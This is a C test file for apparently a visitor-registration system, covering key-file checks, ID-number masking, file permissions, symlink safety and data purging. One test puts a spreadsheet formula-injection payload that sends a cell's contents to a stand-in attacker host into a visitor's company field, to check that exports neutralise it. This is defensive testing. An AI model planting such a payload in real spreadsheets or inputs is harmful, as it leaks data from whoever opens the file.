/* SPDX-FileCopyrightText: 2026 The Frontdesk authors
 * SPDX-License-Identifier: GPL-3.0-or-later */
#define _GNU_SOURCE  /* memmem */
#include <glib/gstdio.h>
#include <string.h>
#include <unistd.h>
#include <utime.h>

#include "fd-badge.h"
#include "fd-error.h"
#include "fd-model.h"
#include "fd-secret.h"
#include "fd-test-util.h"

/* Privacy and files (the "Trust" issue, findings 5 and 7): the station key
 * file, who sees ID numbers whole and how they are masked, file modes and
 * symlinks, formulas in exports, and a purge that leaves no trace. */

/* Finding 5 (b): a key file that went missing is not silently replaced;
 * a key file others can read, or another database's, is refused; all
 * with a clear message, and frontdeskctl says the same. */
static void
test_key_file (void)
{
  g_autoptr(FdStore) store = fd_test_store_new (TRUE);
  g_autoptr(FdSession) security = fd_test_login (store, FD_ROLE_SECURITY);
  g_autofree char *dir = fd_test_db_dir (fd_store_get_path (store));
  g_autofree char *key = g_build_filename (dir, "frontdesk.key", NULL);
  g_autofree char *moved = g_build_filename (dir, "frontdesk.key.bak", NULL);
  g_autofree char *other_dir = g_dir_make_tmp ("fd-other-XXXXXX", NULL);
  g_autofree char *other = g_build_filename (other_dir, "other.key", NULL);
  g_autofree char *out = NULL;
  g_autofree char *err = NULL;
  g_autoptr(GError) error = NULL;
  g_autoptr(FdSecret) stranger = NULL;

  fd_test_store_load_key (store);
  g_assert_cmpint (fd_store_add_watch (store, security, NULL, NULL, "11010519491231002X", "test", &error), >, 0);
  g_assert_no_error (error);

  /* Missing: refused, and no new key appears. */
  g_assert_cmpint (g_rename (key, moved), ==, 0);
  g_assert_false (fd_store_load_key (store, key, FD_LANG_EN, &error));
  g_assert_error (error, FD_ERROR, FD_ERROR_NOT_FOUND);
  g_assert_nonnull (strstr (error->message, "missing"));
  g_clear_error (&error);
  g_assert_false (g_file_test (key, G_FILE_TEST_EXISTS));
  g_assert_cmpint (fd_test_ctl_as (fd_store_get_path (store), NULL, &out, &err, "--lang", "zh_CN", "hosts", "list", NULL), ==, 1);
  g_test_message ("%s", err);
  g_assert_nonnull (strstr (err, "密钥文件"));
  g_assert_false (g_file_test (key, G_FILE_TEST_EXISTS));

  /* Readable by others: refused. */
  g_assert_cmpint (g_rename (moved, key), ==, 0);
  g_assert_cmpint (g_chmod (key, 0644), ==, 0);
  g_assert_false (fd_store_load_key (store, key, FD_LANG_EN, &error));
  g_assert_error (error, FD_ERROR, FD_ERROR_PERMISSION);
  g_assert_nonnull (strstr (error->message, "0600"));
  g_clear_error (&error);
  g_assert_cmpint (g_chmod (key, 0600), ==, 0);
  g_assert_true (fd_store_load_key (store, key, FD_LANG_EN, &error));
  g_assert_no_error (error);

  /* Another station's key: refused. */
  stranger = fd_secret_load (other, TRUE, &error);
  g_assert_no_error (error);
  g_assert_false (fd_store_load_key (store, other, FD_LANG_EN, &error));
  g_assert_error (error, FD_ERROR, FD_ERROR_PERMISSION);
  g_clear_error (&error);
  g_unlink (other);
  g_rmdir (other_dir);
}

/* Finding 5 (c) and (d): only security and administrators see an ID
 * number whole (each time audited); masking counts characters. */
static void
test_reveal_and_mask (void)
{
  g_autoptr(FdStore) store = fd_test_store_new (TRUE);
  g_autoptr(FdSession) reception = fd_test_login (store, FD_ROLE_RECEPTIONIST);
  g_autoptr(FdSession) security = fd_test_login (store, FD_ROLE_SECURITY);
  g_autoptr(FdRegistration) reg = fd_registration_new ();
  g_autoptr(GError) error = NULL;
  g_autofree char *plain = NULL;
  g_autofree char *id = NULL;
  g_autofree char *out = NULL;
  g_autofree char *err = NULL;
  static const struct {
    const char *number;
    const char *masked;
  } masks[] = {
    { "11010519491231002X", "110105********002X" },
    { "AB1234567890", "AB********90" },
    { "E12345678", "E1*****78" },
    { "G1234567", "G*******" },
    { "护照号码一二三四五六七八", "护照********七八" },
    { "AB\xff\xfe" "12345678", "AB********78" },
  };
  gint64 visit;

  for (guint i = 0; i < G_N_ELEMENTS (masks); i++)
    {
      g_autofree char *masked = fd_id_number_mask (masks[i].number);

      g_assert_cmpstr (masked, ==, masks[i].masked);
      g_assert_true (g_utf8_validate (masked, -1, NULL));
    }

  fd_test_store_load_key (store);
  reg->name = g_strdup ("李雷");
  reg->phone = g_strdup ("13812345678");
  reg->purpose = g_strdup ("面试");
  reg->host_id = fd_test_host_id (store, "王芳", NULL);
  reg->visit_ms = fd_store_now_ms (store);
  reg->id_doc_type = g_strdup ("resident-id");
  reg->id_number = g_strdup ("11010519491231002X");
  visit = fd_store_add_visit (store, reg, &error);
  g_assert_no_error (error);
  id = g_strdup_printf ("%" G_GINT64_FORMAT, visit);

  g_assert_null (fd_store_reveal_id_number (store, reception, visit, &error));
  g_assert_error (error, FD_ERROR, FD_ERROR_PERMISSION);
  g_clear_error (&error);
  g_assert_cmpint (fd_test_ctl_as (fd_store_get_path (store), "1357", &out, &err, "--user", "test-receptionist", "visits",
                        "reveal-id", id, NULL), ==, 1);
  g_assert_null (strstr (out, "11010519491231002X"));
  plain = fd_store_reveal_id_number (store, security, visit, &error);
  g_assert_no_error (error);
  g_assert_cmpstr (plain, ==, "11010519491231002X");
}

static guint
file_mode (const char *path)
{
  GStatBuf st;

  g_assert_cmpint (g_lstat (path, &st), ==, 0);
  return st.st_mode & 0777;
}

/* Finding 7: a company name that is a formula is exported inert (only the
 * phone column keeps "+digits"); the database, its WAL, exports and badge
 * PDFs are 0600 from the start; a symlink planted where the export writes
 * is not followed. */
static void
test_exports_and_files (void)
{
  g_autoptr(FdStore) store = fd_test_store_new (TRUE);
  g_autoptr(FdSession) admin = fd_test_login (store, FD_ROLE_ADMIN);
  g_autoptr(FdRegistration) reg = fd_registration_new ();
  g_autoptr(GError) error = NULL;
  g_autofree char *dir = fd_test_db_dir (fd_store_get_path (store));
  g_autofree char *wal = g_strconcat (fd_store_get_path (store), "-wal", NULL);
  g_autofree char *csv = g_build_filename (dir, "visits.csv", NULL);
  g_autofree char *xlsx = g_build_filename (dir, "visits.xlsx", NULL);
  g_autofree char *victim = g_build_filename (dir, "victim.txt", NULL);
  g_autofree char *planted = g_build_filename (dir, "visits.xlsx.part", NULL);
  g_autofree char *pdf = g_build_filename (dir, "badge.pdf", NULL);
  g_autofree char *text = NULL;
  g_autofree char *today = fd_store_today (store);
  g_autoptr(FdVisit) visit = NULL;
  g_autoptr(FdBadge) badge = NULL;
  gint64 id;

  /* A server's files are the server's: only a SQLite file is the station's. */
  if (!fd_test_on_postgresql ())
    g_assert_cmpuint (file_mode (fd_store_get_path (store)), ==, 0600);
  reg->name = g_strdup ("Eve");
  reg->phone = g_strdup ("+49 151 12345678");
  reg->company = g_strdup ("+1+HYPERLINK(\"http://evil.example/?\"&C2,\"x\")");
  reg->purpose = g_strdup ("面试");
  reg->host_id = fd_test_host_id (store, "王芳", NULL);
  reg->visit_ms = fd_store_now_ms (store);
  id = fd_store_add_visit (store, reg, &error);
  g_assert_no_error (error);
  if (!fd_test_on_postgresql ())
    g_assert_cmpuint (file_mode (wal), ==, 0600);

  g_assert_true (fd_store_export (store, admin, today, today, FD_EXPORT_CSV, csv, NULL, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (file_mode (csv), ==, 0600);
  g_assert_true (g_file_get_contents (csv, &text, NULL, NULL));
  g_assert_nonnull (strstr (text, "\"'+1+HYPERLINK("));
  g_assert_nonnull (strstr (text, "\"+4915112345678\""));

  g_assert_true (g_file_set_contents (victim, "keep", -1, NULL));
  g_assert_cmpint (symlink (victim, planted), ==, 0);
  g_assert_true (fd_store_export (store, admin, today, today, FD_EXPORT_XLSX, xlsx, NULL, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (file_mode (xlsx), ==, 0600);
  g_clear_pointer (&text, g_free);
  g_assert_true (g_file_get_contents (victim, &text, NULL, NULL));
  g_assert_cmpstr (text, ==, "keep");

  visit = fd_store_get_visit (store, id, &error);
  badge = fd_badge_new_for_visit (visit, "星河科技");
  g_assert_true (fd_badge_write_pdf (badge, FD_BADGE_CR80, pdf, &error));
  g_assert_cmpuint (file_mode (pdf), ==, 0600);
}

static gint64 trust_now;

/* Whether @needle is anywhere in the bytes of @path (absent: FALSE). */
static gboolean
file_holds (const char *path,
            const char *needle)
{
  g_autofree char *data = NULL;
  gsize length = 0;

  if (!g_file_get_contents (path, &data, &length, NULL))
    return FALSE;
  return memmem (data, length, needle, strlen (needle)) != NULL;
}

/* Finding 5 (a): after the purge, a visitor past retention is nowhere in
 * the database's files (the file itself, its WAL and shared memory) while
 * the station keeps running, nor is an invitation never used, nor the
 * badge PDF saved for them; a recent badge stays. */
static void
test_purge_leaves_no_trace (void)
{
  g_autoptr(FdStore) store = fd_test_store_new (TRUE);
  g_autoptr(FdSession) reception = fd_test_login (store, FD_ROLE_RECEPTIONIST);
  g_autoptr(FdRegistration) reg = fd_registration_new ();
  g_autoptr(FdRegistration) invited = fd_registration_new ();
  g_autoptr(GError) error = NULL;
  g_autofree char *dir = fd_test_db_dir (fd_store_get_path (store));
  g_autofree char *badges = g_build_filename (dir, "badges", NULL);
  g_autofree char *old_badge = g_build_filename (badges, "visitor-badge-000001.pdf", NULL);
  g_autofree char *new_badge = g_build_filename (badges, "visitor-badge-000002.pdf", NULL);
  g_autofree char *code = NULL;
  g_autofree char *day = NULL;
  const char *suffixes[] = { "", "-wal", "-shm" };
  struct utimbuf long_ago;
  gint64 visit;

  trust_now = g_get_real_time () / 1000 - 100LL * 24 * 3600 * 1000;
  fd_store_set_clock (store, fd_test_clock, &trust_now);
  fd_test_store_load_key (store);
  reg->name = g_strdup ("紫霞仙子");
  reg->phone = g_strdup ("13912340000");
  reg->company = g_strdup ("水帘洞有限公司");
  reg->purpose = g_strdup ("面试");
  reg->host_id = fd_test_host_id (store, "王芳", NULL);
  reg->visit_ms = trust_now;
  reg->id_doc_type = g_strdup ("resident-id");
  reg->id_number = g_strdup ("11010519491231002X");
  visit = fd_store_add_visit (store, reg, &error);
  g_assert_no_error (error);
  trust_now += 3600 * 1000;
  g_assert_true (fd_store_checkout (store, fd_test_staff (), visit, &error));
  invited->name = g_strdup ("至尊宝");
  invited->phone = g_strdup ("13912349999");
  invited->purpose = g_strdup ("面试");
  invited->host_id = reg->host_id;
  day = fd_store_today (store);
  g_assert_cmpint (fd_store_add_invitation (store, fd_test_staff (), invited, day, &code, &error), >, 0);
  g_assert_no_error (error);
  for (guint i = 0; i < G_N_ELEMENTS (suffixes) && !fd_test_on_postgresql (); i++)
    {
      g_autofree char *path = g_strconcat (fd_store_get_path (store), suffixes[i], NULL);

      if (file_holds (path, "紫霞仙子"))
        break;
      g_assert_cmpuint (i, <, G_N_ELEMENTS (suffixes) - 1);  /* the test can see a name */
    }

  g_assert_cmpint (g_mkdir_with_parents (badges, 0700), ==, 0);
  g_assert_true (g_file_set_contents (old_badge, "%PDF 紫霞仙子", -1, NULL));
  g_assert_true (g_file_set_contents (new_badge, "%PDF 李雷", -1, NULL));
  long_ago.actime = long_ago.modtime = trust_now / 1000;
  g_assert_cmpint (utime (old_badge, &long_ago), ==, 0);

  trust_now = g_get_real_time () / 1000;
  g_assert_true (fd_store_housekeeping (store, fd_test_staff (), badges, &error));
  g_assert_no_error (error);

  /* On a server, whose files and write-ahead log are its own, no row
   * holds them any more (the README says what the server keeps). */
  g_assert_cmpint (fd_test_sql (fd_store_get_path (store),
                                "SELECT (SELECT COUNT(*) FROM visits WHERE name = '紫霞仙子' OR phone = '13912340000' "
                                "OR company LIKE '%水帘洞%') + "
                                "(SELECT COUNT(*) FROM invitations WHERE name = '至尊宝') + "
                                "(SELECT COUNT(*) FROM outbox WHERE body LIKE '%紫霞仙子%' OR subject LIKE '%紫霞仙子%') + "
                                "(SELECT COUNT(*) FROM audit_log WHERE detail LIKE '%紫霞仙子%')"), ==, 0);
  for (guint i = 0; i < G_N_ELEMENTS (suffixes) && !fd_test_on_postgresql (); i++)
    {
      g_autofree char *path = g_strconcat (fd_store_get_path (store), suffixes[i], NULL);

      g_test_message ("%s", path);
      g_assert_false (file_holds (path, "紫霞仙子"));
      g_assert_false (file_holds (path, "13912340000"));
      g_assert_false (file_holds (path, "水帘洞"));
      g_assert_false (file_holds (path, "至尊宝"));
    }
  g_assert_false (g_file_test (old_badge, G_FILE_TEST_EXISTS));
  g_assert_true (g_file_test (new_badge, G_FILE_TEST_EXISTS));
  g_assert_nonnull (reception);
}

int
main (int    argc,
      char **argv)
{
  g_test_init (&argc, &argv, NULL);
  g_test_add_func ("/trust/key-file", test_key_file);
  g_test_add_func ("/trust/reveal-and-mask", test_reveal_and_mask);
  g_test_add_func ("/trust/exports-and-files", test_exports_and_files);
  g_test_add_func ("/trust/purge-leaves-no-trace", test_purge_leaves_no_trace);
  return g_test_run ();
}
